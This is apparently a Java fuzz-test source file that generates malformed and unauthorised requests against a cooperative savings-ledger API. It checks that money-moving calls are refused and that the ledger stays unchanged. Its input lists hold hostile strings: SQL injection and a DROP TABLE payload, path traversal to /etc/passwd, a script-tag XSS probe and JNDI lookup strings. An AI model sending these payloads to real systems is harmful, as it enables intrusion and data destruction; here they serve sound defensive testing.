package org.coopledger.api.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;

/**
 * Generates malformed and hostile requests against every endpoint from one seeded
 * {@link Random}. Each request to an endpoint that changes the ledger is spoiled in at least one
 * way that must refuse it (no or wrong credentials, a role without the right, a malformed or
 * wrongly typed body, a bad amount or currency, a missing or oversized Idempotency-Key, an
 * unknown or foreign id, a wrong content type or method, an oversized body, or a business rule
 * such as insufficient funds), so that no valid money movement is ever sent: the ledger must be
 * exactly the same afterwards. Reads get hostile parameters and may succeed.
 */
final class HostileRequests {

    /** What the fuzzer acts on: credentials per role and the ids of seeded records. */
    record Fixture(Map<String, String> basicAuthByRole, String memberA, String memberB, String accountAJod,
                   String accountAUsd, String accountBJod, String heldHoldId, String productCode,
                   String guessedUsername) {

        String auth(String role) {
            return basicAuthByRole.get(role);
        }
    }

    static final List<String> ROLES = List.of("ADMIN", "TELLER", "MANAGER", "AUDITOR", "MEMBER");
    private static final ObjectMapper JSON = new ObjectMapper();

    /** Amounts no endpoint may accept: negative, zero, huge, 30-digit decimals, non-decimal forms. */
    static final List<Object> BAD_AMOUNTS = List.of(
            "-10.000", "-0.001", "0", "0.000", "1000000000000", "999999999999999999999999999999",
            "0.000000000000000000000000000001", "1.123456789012345678901234567890", "10.0001",
            "1E2", "1e-3", "+10", " 10", "10 ", "10,5", "", " ", "NaN", "Infinity", "-Infinity", "0x10",
            "١٠٠", "１０", "10.", ".5", "--1", "1-", "10.5.5", "12345678901234567890123456789012345678901234567890",
            10, 10.5, -1, 1e300, true, List.of("10"), Map.of("value", "10"));
    /** Currencies that do not exist or are written wrongly. */
    static final List<Object> BAD_CURRENCIES = List.of(
            "XXX", "ZZZ", "ABC", "jod", "Jod", "", " ", "JODD", "JO", "€", "US$", "٠٠٠", "J\u0000D", 978, true,
            List.of("USD"), Map.of("code", "USD"));
    /** Ids that name nothing or try to escape the path: SQL, traversal, encodings, length, scripts. */
    static final List<String> HOSTILE_IDS = List.of(
            "does-not-exist", "' OR '1'='1", "1; DROP TABLE domain_event_entry; --", "../../etc/passwd",
            "..", ".", "%00", "null", "undefined", "-1", "0", "99999999999999999999999999999999",
            "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "أحمد", "Ω≈ç√∫", "\u202Eevil",
            "a".repeat(65), "a".repeat(300), "a".repeat(3000), " ", "%2F", "\\", "M-000001");
    /** Fields of the base bodies that may be left out; every other one is required. */
    private static final Set<String> OPTIONAL_FIELDS = Set.of("phone", "address", "currency", "holdId");
    /** Values of a wrong JSON type for a string field. */
    private static final List<Object> NOT_A_STRING = List.of(Map.of("x", 1), List.of("a", "b"), List.of());
    /** Share counts that are not a whole number between 1 and 100,000. */
    static final List<Object> BAD_SHARES = List.of(0, -1, -2147483648, 100_001, 2147483647, 2147483648L,
            99999999999999999L, 1.5, 1e3, "5", "", true, List.of(5), Map.of("n", 5));

    private final Random random;
    private final Fixture fixture;
    private final List<Endpoint> writes;
    private final List<Function<Random, FuzzRequest>> reads;

    HostileRequests(Random random, Fixture fixture) {
        this.random = random;
        this.fixture = fixture;
        this.writes = writeEndpoints(fixture);
        this.reads = readRequests();
    }

    /** The next request: about four in five against an endpoint that writes. */
    FuzzRequest next() {
        if (random.nextInt(5) == 0) {
            return reads.get(random.nextInt(reads.size())).apply(random);
        }
        Endpoint endpoint = pick(writes);
        List<Spoiler> spoilers = new ArrayList<>(List.of(Spoiler.values()));
        spoilers.removeIf(s -> !s.appliesTo(endpoint));
        Spoiler spoiler = pick(spoilers);
        FuzzRequest request = spoiler.spoil(this, endpoint);
        return decorate(request);
    }

    // ---------------------------------------------------------------- endpoints that write

    /**
     * An endpoint that changes the ledger, with a base request that is valid except where the
     * base itself is refused by a business rule ({@code refusedAsIs}): such endpoints may also be
     * sent unspoiled.
     */
    record Endpoint(String name, String method, Function<String, String> pathWithId, String ownId,
                    Set<String> allowedRoles, String actingRole, Map<String, Object> body, boolean money,
                    boolean keyRequired, boolean refusedAsIs, List<Map<String, Object>> businessRefusals) {

        String path() {
            return pathWithId.apply(ownId);
        }

        boolean hasBody() {
            return body != null;
        }
    }

    private static List<Endpoint> writeEndpoints(Fixture f) {
        List<Endpoint> all = new ArrayList<>();
        Function<String, String> member = id -> "/api/v1/members/" + id;
        Function<String, String> account = id -> "/api/v1/savings-accounts/" + id;
        all.add(new Endpoint("register member", "POST", id -> "/api/v1/members", null, Set.of("TELLER"), "TELLER",
                memberBody(), false, false, false, List.of()));
        all.add(new Endpoint("update contact", "PATCH", member.andThen(p -> p + "/contact"), f.memberA(),
                Set.of("TELLER"), "TELLER", map("phone", "+962790000002", "address", "Zarqa"), false, false, false,
                List.of()));
        // Member A has open accounts: exit and erasure are refused by rule even when well-formed.
        all.add(new Endpoint("member exit", "POST", member.andThen(p -> p + "/exit"), f.memberA(), Set.of("TELLER"),
                "TELLER", map("reason", "moving away"), false, false, true, List.of()));
        all.add(new Endpoint("member erasure", "POST", member.andThen(p -> p + "/erasure"), f.memberB(),
                Set.of("ADMIN"), "ADMIN", map("reason", "request of the member"), false, false, true, List.of()));
        all.add(new Endpoint("share purchase", "POST", member.andThen(p -> p + "/share-purchases"), f.memberA(),
                Set.of("TELLER"), "TELLER", map("shares", 2), false, true, false, List.of()));
        // Nobody holds shares: every redemption is refused as INSUFFICIENT_SHARES.
        all.add(new Endpoint("share redemption", "POST", member.andThen(p -> p + "/share-redemptions"), f.memberB(),
                Set.of("TELLER"), "TELLER", map("shares", 1), false, true, true, List.of()));
        all.add(new Endpoint("open account", "POST", id -> "/api/v1/savings-accounts", null, Set.of("TELLER"),
                "TELLER", map("memberId", f.memberA(), "currency", "JOD"), false, false, false,
                List.of(map("memberId", "no-such-member-" + UUID.randomUUID(), "currency", "JOD"))));
        all.add(new Endpoint("deposit", "POST", account.andThen(p -> p + "/deposits"), f.accountAJod(),
                Set.of("TELLER"), "TELLER", map("amount", money("5.000", "JOD")), true, true, false,
                List.of(map("amount", money("5.00", "USD")))));
        all.add(new Endpoint("withdrawal", "POST", account.andThen(p -> p + "/withdrawals"), f.accountAJod(),
                Set.of("TELLER"), "TELLER", map("amount", money("5.000", "JOD")), true, true, false,
                List.of(map("amount", money("1000000.000", "JOD")), map("amount", money("5.00", "USD")),
                        map("amount", money("100.001", "JOD")))));
        all.add(new Endpoint("hold", "POST", account.andThen(p -> p + "/holds"), f.accountAJod(),
                Set.of("TELLER", "MANAGER"), "MANAGER", map("amount", money("1.000", "JOD"), "reason", "guarantee"),
                true, false, false,
                List.of(map("amount", money("999999.000", "JOD"), "reason", "too much"),
                        map("holdId", f.heldHoldId(), "amount", money("1.000", "JOD"), "reason", "duplicate"),
                        map("amount", money("1.00", "USD"), "reason", "wrong currency"))));
        // No hold of these ids exists: every release is refused as HOLD_NOT_FOUND.
        all.add(new Endpoint("hold release", "POST",
                account.andThen(p -> p + "/holds/no-such-hold-" + UUID.randomUUID() + "/release"), f.accountAJod(),
                Set.of("TELLER", "MANAGER"), "TELLER", map(), false, false, true, List.of()));
        // Funded accounts: closure is refused as ACCOUNT_BALANCE_NOT_ZERO.
        all.add(new Endpoint("closure", "POST", account.andThen(p -> p + "/closure"), f.accountBJod(),
                Set.of("TELLER"), "TELLER", map(), false, false, true, List.of()));
        all.add(new Endpoint("define product", "POST", id -> "/api/v1/savings-products", null, Set.of("ADMIN"),
                "ADMIN", map("productCode", "FZ" + Integer.toString(Math.abs(UUID.randomUUID().hashCode()) % 100000),
                "name", "Fuzz", "minimumBalance", money("1.00", "USD")), true, false, false,
                List.of(map("productCode", f.productCode(), "name", "Again", "minimumBalance", money("1.00", "USD")))));
        all.add(new Endpoint("transfer", "POST", id -> "/api/v1/transfers", null, Set.of("TELLER", "MEMBER"),
                "TELLER", map("fromAccountId", f.accountAJod(), "toAccountId", f.accountBJod(),
                "amount", money("1.000", "JOD")), true, true, false,
                List.of(map("fromAccountId", f.accountAJod(), "toAccountId", f.accountAJod(), "amount", money("1.000", "JOD")),
                        map("fromAccountId", f.accountAJod(), "toAccountId", f.accountAUsd(), "amount", money("1.000", "JOD")),
                        map("fromAccountId", f.accountAJod(), "toAccountId", f.accountBJod(), "amount", money("50000.000", "JOD")),
                        map("fromAccountId", f.accountAJod(), "toAccountId", "no-such-account", "amount", money("1.000", "JOD")))));
        all.add(new Endpoint("create user", "POST", id -> "/api/v1/users", null, Set.of("ADMIN"), "ADMIN",
                map("username", "fz-" + UUID.randomUUID().toString().substring(0, 8), "password", "a-long-password-1",
                        "roles", List.of("TELLER")), false, false, false,
                List.of(map("username", "fz-bad", "password", "a-long-password-1", "roles", List.of("MEMBER", "TELLER"),
                        "memberId", f.memberA()))));
        all.add(new Endpoint("verification", "POST", id -> "/api/v1/audit/verifications", null, Set.of("AUDITOR"),
                "AUDITOR", null, false, false, false, List.of()));
        all.add(new Endpoint("checkpoint", "POST", id -> "/api/v1/audit/chain/checkpoints", null, Set.of("AUDITOR"),
                "AUDITOR", null, false, false, false, List.of()));
        return all;
    }

    /** Ways to make a request to a writing endpoint fail; each must refuse it on its own. */
    enum Spoiler {
        NO_OR_BAD_CREDENTIALS {
            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                String auth = g.pick(List.of("", "Basic", "Basic ", "Basic !!!notbase64!!!", "Bearer abc.def.ghi",
                        // Wrong passwords go to a user of their own: after five the username is paused
                        // (429), which must not hit the users the other requests and tests act as.
                        "Digest username=\"admin\"", basic(g.fixture.guessedUsername(), "wrong-password"),
                        basic("no-such-user", "x"), basic("", ""), basic(g.fixture.guessedUsername(), ""),
                        basic("ADMIN", "x"), basic("a".repeat(2000), "b".repeat(2000)),
                        "Basic " + Base64.getEncoder().encodeToString("no-colon".getBytes(StandardCharsets.UTF_8)),
                        basic("admin' --", "x"), basic("admin\u0000", "x")));
                FuzzRequest base = g.base(e, e.actingRole(), "credentials");
                if (auth.isEmpty()) {
                    base.headers().remove("Authorization");
                } else {
                    base.headers().put("Authorization", auth);
                }
                return base;
            }
        },
        WRONG_ROLE {
            @Override
            boolean appliesTo(Endpoint e) {
                return !(e.allowedRoles().containsAll(ROLES));
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                List<String> wrong = new ArrayList<>(ROLES);
                wrong.removeAll(e.allowedRoles());
                return g.base(e, g.pick(wrong), "wrong role");
            }
        },
        MALFORMED_JSON {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.hasBody() || e.refusedAsIs();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                String valid = g.json(e.body() == null ? Map.of() : e.body());
                String text = g.pick(List.of(
                        "", "{", "}", "[", "{\"a\":", "null", "true", "42", "\"text\"", "[]", "[{}]",
                        valid.substring(0, Math.max(1, valid.length() / 2)), valid + "}", valid + valid, "{" + valid,
                        valid.replace("\"", "'"), valid.replace(":", "="), "{\"amount\":{\"amount\":\"10\",}}",
                        "{/*comment*/}", "{\"a\":1,\"a\":2}", "[".repeat(5000), "{\"a\":".repeat(3000),
                        "{\"amount\":" + "9".repeat(20000) + "}", "{\"amount\":1e99999999}",
                        "\u0000\u0001\u0002", "<xml/>", "a=1&b=2", "{\"" + "k".repeat(30000) + "\":1}",
                        "{\"amount\":{\"amount\":\"" + "1".repeat(30000) + "\",\"currency\":\"JOD\"}}"));
                if (e.refusedAsIs() && !e.hasBody()) {
                    return g.base(e, e.actingRole(), "ignored junk body").withBody(text, "application/json");
                }
                return g.base(e, e.actingRole(), "malformed json").withBody(text, "application/json");
            }
        },
        INVALID_UTF8 {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.hasBody();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                byte[] bytes = {'{', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, '"', ':', '1', '}'};
                FuzzRequest r = g.base(e, e.actingRole(), "invalid utf-8");
                r.headers().put("Content-Type", g.pick(List.of("application/json", "application/json; charset=UTF-8",
                        "application/json; charset=klingon", "application/json; charset=UTF-16")));
                return new FuzzRequest(r.label(), r.method(), r.path(), r.headers(), bytes, false, true);
            }
        },
        WRONG_TYPE_OR_MISSING_FIELD {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.hasBody() && !e.body().isEmpty();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                Map<String, Object> body = new LinkedHashMap<>(e.body());
                String field = g.pick(new ArrayList<>(body.keySet()));
                int how = g.random.nextInt(4);
                String label;
                if (how == 0 && !OPTIONAL_FIELDS.contains(field)) {
                    body.remove(field);
                    label = "missing " + field;
                } else if (how == 1) {
                    body.put("unexpected" + g.random.nextInt(100), g.pick(List.of("x", 1, true, Map.of())));
                    label = "unknown property";
                } else if ("shares".equals(field)) {
                    body.put(field, g.pick(BAD_SHARES));
                    label = "bad shares";
                } else if ("roles".equals(field)) {
                    body.put(field, g.pick(List.of(List.of("ROOT"), List.of(), "TELLER", List.of("teller"),
                            java.util.Collections.nCopies(6, "TELLER"), List.of(Map.of()))));
                    label = "bad roles";
                } else if ("username".equals(field)) {
                    body.put(field, g.pick(List.of("ab", "a b c", "x".repeat(65), "tina/../admin", "أحمد", "", "a\u0000b")));
                    label = "bad username";
                } else {
                    body.put(field, g.pick(NOT_A_STRING));
                    label = "wrong type of " + field;
                }
                return g.base(e, e.actingRole(), label).withJson(body);
            }
        },
        BAD_AMOUNT {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.money();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                Map<String, Object> body = new LinkedHashMap<>(e.body());
                String field = body.containsKey("amount") ? "amount" : "minimumBalance";
                @SuppressWarnings("unchecked")
                Map<String, Object> money = new LinkedHashMap<>((Map<String, Object>) body.get(field));
                String label;
                if (g.random.nextBoolean()) {
                    Object amount = g.pick(BAD_AMOUNTS);
                    if ("minimumBalance".equals(field) && ("0".equals(amount) || "0.000".equals(amount))) {
                        amount = "-0.01"; // a zero minimum balance is a valid product
                    }
                    money.put("amount", amount);
                    label = "bad amount";
                } else {
                    money.put("currency", g.pick(BAD_CURRENCIES));
                    label = "bad currency";
                }
                if (g.random.nextInt(10) == 0) {
                    money.remove(g.random.nextBoolean() ? "amount" : "currency");
                    label = "money without a part";
                }
                body.put(field, money);
                return g.base(e, e.actingRole(), label).withJson(body);
            }
        },
        BAD_IDEMPOTENCY_KEY {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.keyRequired();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                FuzzRequest r = g.base(e, e.actingRole(), "bad idempotency key");
                switch (g.random.nextInt(4)) {
                    case 0 -> r.headers().remove("Idempotency-Key");
                    case 1 -> r.headers().put("Idempotency-Key", g.pick(List.of("", " ", "\t")));
                    case 2 -> r.headers().put("Idempotency-Key", "k".repeat(256 + g.random.nextInt(8000)));
                    default -> r.headers().put("Idempotency-Key", "k".repeat(20_000)); // over the header limit
                }
                return r;
            }
        },
        UNKNOWN_OR_FOREIGN_ID {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.ownId() != null;
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                String id = g.random.nextBoolean() ? UUID.randomUUID().toString() : g.pick(HOSTILE_IDS);
                Endpoint other = new Endpoint(e.name(), e.method(), e.pathWithId(), encode(id), e.allowedRoles(),
                        e.actingRole(), e.body(), e.money(), e.keyRequired(), e.refusedAsIs(), e.businessRefusals());
                return g.base(other, e.actingRole(), "unknown id");
            }
        },
        FOREIGN_ACCOUNT_AS_MEMBER {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.name().equals("transfer");
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                // The member user belongs to member A: B's account is not theirs to move money from.
                Map<String, Object> body = new LinkedHashMap<>(e.body());
                body.put("fromAccountId", g.fixture.accountBJod());
                body.put("toAccountId", g.fixture.accountAJod());
                return g.base(e, "MEMBER", "foreign account as member").withJson(body);
            }
        },
        WRONG_CONTENT_TYPE {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.hasBody() && !e.refusedAsIs();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                FuzzRequest r = g.base(e, e.actingRole(), "wrong content type");
                String type = g.pick(List.of("", "text/plain", "application/xml", "text/html", "multipart/form-data; boundary=x",
                        "application/x-www-form-urlencoded", "application/octet-stream", "image/png", "application/*",
                        "*/*", "garbage", "application/vnd.evil+xml"));
                // (application/*+json types are JSON and rightly accepted: they are no spoiler.)
                if (type.isEmpty()) {
                    r.headers().remove("Content-Type");
                } else {
                    r.headers().put("Content-Type", type);
                }
                return r;
            }
        },
        WRONG_METHOD {
            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                FuzzRequest r = g.base(e, e.actingRole(), "wrong method");
                String method = g.pick(List.of("PUT", "DELETE", "PATCH", "POST", "TRACE"));
                if (method.equals(e.method())) {
                    method = "PUT";
                }
                return new FuzzRequest(r.label(), method, r.path(), r.headers(), r.body(), false, true);
            }
        },
        OVERSIZED_BODY {
            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                int size = 64 * 1024 + 1 + g.random.nextInt(200_000);
                String text = "{\"reason\":\"" + "x".repeat(size) + "\"}";
                FuzzRequest r = g.base(e, e.actingRole(), "oversized body").withBody(text, "application/json");
                // Without a declared length the limit bites when the body is read: only where one is.
                return !e.hasBody() || g.random.nextBoolean() ? r : new FuzzRequest(r.label() + " (chunked)", r.method(), r.path(),
                        r.headers(), r.body(), true, true);
            }
        },
        OVERSIZED_FIELD {
            @Override
            boolean appliesTo(Endpoint e) {
                return e.hasBody() && e.body().values().stream().anyMatch(String.class::isInstance);
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                Map<String, Object> body = new LinkedHashMap<>(e.body());
                List<String> strings = new ArrayList<>();
                body.forEach((k, v) -> {
                    if (v instanceof String && !k.equals("password")) {
                        strings.add(k);
                    }
                });
                if (strings.isEmpty()) {
                    return MALFORMED_JSON.spoil(g, e);
                }
                String field = g.pick(strings);
                body.put(field, "é".repeat(501 + g.random.nextInt(20_000)));
                return g.base(e, e.actingRole(), "oversized " + field).withJson(body);
            }
        },
        BUSINESS_RULE {
            @Override
            boolean appliesTo(Endpoint e) {
                return !e.businessRefusals().isEmpty() || e.refusedAsIs();
            }

            @Override
            FuzzRequest spoil(HostileRequests g, Endpoint e) {
                if (e.businessRefusals().isEmpty()) {
                    return g.base(e, e.actingRole(), "refused by rule as is");
                }
                return g.base(e, e.actingRole(), "business rule").withJson(g.pick(e.businessRefusals()));
            }
        };

        boolean appliesTo(Endpoint e) {
            return true;
        }

        abstract FuzzRequest spoil(HostileRequests g, Endpoint e);
    }

    /** The endpoint's base request as {@code role}, with a fresh Idempotency-Key. */
    private FuzzRequest base(Endpoint e, String role, String label) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", fixture.auth(role));
        headers.put("Accept", "application/json, application/problem+json");
        headers.put("Idempotency-Key", "fuzz-" + UUID.randomUUID());
        byte[] body = null;
        if (e.body() != null) {
            headers.put("Content-Type", "application/json");
            body = json(e.body()).getBytes(StandardCharsets.UTF_8);
        }
        return new FuzzRequest(e.name() + ": " + label + " as " + role, e.method(), e.path(), headers, body, false, true);
    }

    /** Sometimes adds hostile headers that must not change the answer's shape. */
    private FuzzRequest decorate(FuzzRequest r) {
        int roll = random.nextInt(12);
        if (roll == 0) {
            r.headers().put("Accept", pick(List.of("text/html", "application/xml", "image/png", "text/plain", "*/*",
                    "application/json;q=0", "garbage/", "application/problem+json")));
        } else if (roll == 1) {
            r.headers().put("X-Correlation-Id", pick(List.of("x".repeat(5000), "' OR 1=1 --", "<script>", "\t")));
        } else if (roll == 2) {
            r.headers().put("X-Client-Channel", pick(List.of("y".repeat(3000), "${jndi:x}", "")));
        } else if (roll == 3) {
            r.headers().put("X-Junk", "j".repeat(17_000)); // the headers exceed the 16 KB limit
        }
        return r;
    }

    // ---------------------------------------------------------------- reads

    private List<Function<Random, FuzzRequest>> readRequests() {
        List<Function<Random, FuzzRequest>> all = new ArrayList<>();
        all.add(r -> read("GET", "/api/v1/members/" + anyId(r)));
        all.add(r -> read("GET", "/api/v1/savings-accounts/" + anyAccount(r)));
        all.add(r -> read("GET", "/api/v1/savings-accounts/" + anyAccount(r) + "/transactions?" + query(r,
                "from", "to", "limit", "after")));
        all.add(r -> read("GET", "/api/v1/savings-accounts/" + anyAccount(r) + "/balance?" + query(r, "asOf")));
        all.add(r -> read("GET", "/api/v1/reports/trial-balance?" + query(r, "asOf")));
        all.add(r -> read("GET", "/api/v1/audit/events?" + query(r, "after", "limit", "aggregateId", "type", "user",
                "from", "to")));
        all.add(r -> read("GET", "/api/v1/audit/personal-data-access?" + query(r, "memberId", "after", "limit")));
        all.add(r -> read("GET", "/api/v1/audit/chain/head"));
        all.add(r -> read("GET", "/api/v1/me"));
        all.add(r -> read("GET", "/api/v1/users"));
        all.add(r -> read("GET", "/api/v1/" + encode(pick(HOSTILE_IDS))));
        all.add(r -> read(pick(List.of("HEAD", "OPTIONS", "GET")), "/api/v1/transfers"));
        return all;
    }

    private FuzzRequest read(String method, String path) {
        String role = random.nextInt(8) == 0 ? null : pick(ROLES);
        Map<String, String> headers = new LinkedHashMap<>();
        if (role != null) {
            headers.put("Authorization", fixture.auth(role));
        }
        headers.put("Accept", "application/json, application/problem+json");
        return new FuzzRequest("read as " + role, method, path, headers, null, false, false);
    }

    private String anyId(Random r) {
        return switch (r.nextInt(4)) {
            case 0 -> fixture.memberA();
            case 1 -> fixture.memberB();
            case 2 -> UUID.randomUUID().toString();
            default -> encode(pick(HOSTILE_IDS));
        };
    }

    private String anyAccount(Random r) {
        return switch (r.nextInt(5)) {
            case 0 -> fixture.accountAJod();
            case 1 -> fixture.accountBJod();
            case 2 -> fixture.accountAUsd();
            case 3 -> UUID.randomUUID().toString();
            default -> encode(pick(HOSTILE_IDS));
        };
    }

    private String query(Random r, String... names) {
        List<Object> values = List.of("2026-13-45", "2026-02-30", "0000-01-01", "99999-01-01", "-1", "0", "1", "1000000",
                "2147483648", "99999999999999999999", "1.5", "abc", "", "2026-11-29", "2026-11-29T10:00:00Z",
                "' OR 1=1 --", "%00", "a".repeat(3000), UUID.randomUUID().toString(), "null", "%F0%9F%92%A9",
                "1e9");
        StringBuilder query = new StringBuilder();
        for (String name : names) {
            if (r.nextBoolean()) {
                Object value = pick(values);
                String text = value.toString();
                // %00 stays raw on purpose: a NUL in the query.
                String encoded = text.startsWith("%") ? text : encode(text);
                query.append(query.isEmpty() ? "" : "&").append(name).append('=').append(encoded);
            }
        }
        if (r.nextInt(10) == 0) {
            query.append("&limit=1&limit=2&unknown=").append(encode("x".repeat(100)));
        }
        return query.toString();
    }

    // ---------------------------------------------------------------- helpers

    <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String basic(String user, String password) {
        return "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
    }

    static Map<String, Object> money(String amount, String currency) {
        return map("amount", amount, "currency", currency);
    }

    /** An insertion-ordered, mutable map of alternating keys and values. */
    static Map<String, Object> map(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    private static Map<String, Object> memberBody() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("legalName", "Fuzz Member");
        body.put("dateOfBirth", "1990-04-12");
        body.put("gender", "FEMALE");
        body.put("phone", "+962790000001");
        body.put("countryOfOrigin", "SD");
        body.put("address", "Amman");
        body.put("segment", "REFUGEE");
        body.put("document", Map.of("type", "NONE_YET"));
        body.put("branch", "AMMAN-1");
        return body;
    }
}
